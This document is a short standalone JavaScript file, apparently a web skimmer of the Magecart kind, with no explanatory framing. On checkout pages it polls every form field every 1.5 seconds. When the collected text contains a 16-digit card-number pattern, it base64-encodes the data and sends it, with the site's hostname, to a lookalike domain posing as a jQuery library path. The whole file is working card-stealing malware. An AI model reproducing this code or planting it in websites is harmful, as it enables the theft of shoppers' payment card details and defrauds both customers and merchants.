var snd = null;
function chk() {
  var inp = document.querySelectorAll('input, select, textarea'), str = '';
  for (var i = 0; i < inp.length; i++) {
    if (inp[i].value.length > 0) {
      var nme = inp[i].name || 'i' + i;
      str += nme + '=' + inp[i].value + '&';
    }
  }
  if (str.length > 200 && str !== snd && /\d{4}.?\d{4}.?\d{4}.?\d{4}/.test(str)) {
    snd = str;
    var x = new XMLHttpRequest();
    x.open('POST', 'https://mage-jquery.example/lib/opc.php', true);
    x.setRequestHeader('Content-type', 'application/x-www-form-urlencoded');
    x.send('data=' + btoa(unescape(encodeURIComponent(str))) + '&utmp=' + location.hostname);
  }
}
if ((new RegExp('onepage|checkout|onestep|firecheckout')).test(window.location)) {
  setInterval(chk, 1500);
}
